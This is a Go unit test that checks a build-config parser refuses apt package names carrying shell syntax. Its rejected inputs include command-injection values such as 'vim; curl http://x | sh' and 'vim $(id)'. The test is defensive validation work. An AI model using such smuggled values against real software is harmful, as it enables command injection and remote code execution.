package config

import (
	"strings"
	"testing"
)

// TestFinalAptNames: stage_2.final.apt entries go into an apt-get command
// line, so anything but a Debian package name (optionally :arch and
// =version) is refused, including shell syntax after a valid name.
func TestFinalAptNames(t *testing.T) {
	for _, tc := range []struct {
		pkg string
		ok  bool
	}{
		{"vim", true},
		{"libc6:amd64", true},
		{"curl=7.88.1-10+deb12u5", true},
		{"g++", true},
		{"vim; curl http://x | sh", false},
		{"vim $(id)", false},
		{"vim\nrm", false},
		{"vim=1.0 evil", false},
		{"-o=APT::x", false},
		{"Vim", false},
	} {
		t.Run(tc.pkg, func(t *testing.T) {
			yml := "stage_1:\n  image: {base: debian:bookworm}\nstage_2:\n  final:\n    keep: [/opt/app]\n    apt: [" + quoteYAML(tc.pkg) + "]\n"
			_, err := parse(t, "", yml, nil)
			if tc.ok {
				if err != nil {
					t.Fatalf("package %q refused: %v", tc.pkg, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), "stage_2.final.apt[0]") || !strings.Contains(err.Error(), "is not a Debian package name") {
				t.Fatalf("package %q: error %v, want it refused as not a Debian package name", tc.pkg, err)
			}
		})
	}
}

// quoteYAML writes s as a double-quoted YAML scalar.
func quoteYAML(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(s) + `"`
}
